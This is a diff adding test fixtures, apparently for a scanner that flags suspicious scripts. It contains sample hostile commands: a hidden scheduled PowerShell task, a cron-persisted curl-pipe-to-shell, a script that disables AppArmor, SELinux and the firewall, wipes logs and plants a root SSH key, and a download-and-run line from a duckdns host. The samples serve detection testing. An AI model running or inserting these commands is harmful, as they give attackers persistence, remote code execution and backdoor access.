@@ -88,4 +88,28 @@ export const operations: readonly Suspect[] = [
     ['script_runs_decoded_code'],
     'document.write(unescape("%3Cscript src=\'https://cdn.files.example/j.js\'%3E%3C/script%3E"));\n',
   ),
+  text(
+    'register-task.cmd',
+    'suspicious',
+    ['script_persists', 'script_conceals_itself'],
+    '@echo off\r\nschtasks /create /tn "Update" /tr "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\u.ps1" /sc minute /mo 5 /f\r\nattrib +h C:\\Users\\Public\\u.ps1\r\n',
+  ),
+  text(
+    'cron-fetch.sh',
+    'suspicious',
+    ['script_persists', 'script_pipes_download_to_shell'],
+    '#!/bin/sh\ncurl -fsSL https://files.example/i | sh\n(crontab -l; echo "*/5 * * * * curl -fsSL https://files.example/i | sh") | crontab -\n',
+  ),
+  text(
+    'marks-off.sh',
+    'suspicious',
+    ['script_disables_defences', 'script_wipes_logs'],
+    '#!/bin/sh\nchattr -i /root/.ssh/authorized_keys\nsystemctl stop apparmor; setenforce 0; ufw disable\nrm -f /var/log/secure /var/log/wtmp; unset HISTFILE\necho "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDf x" >> /root/.ssh/authorized_keys\n',
+  ),
+  text(
+    'tunnel.sh',
+    'suspicious',
+    ['script_uses_throwaway_host', 'script_runs_download_from_temp'],
+    '#!/bin/sh\ncurl -s http://box7.duckdns.org/a -o /tmp/.a; chmod +x /tmp/.a; /tmp/.a\n',
+  ),
 ]
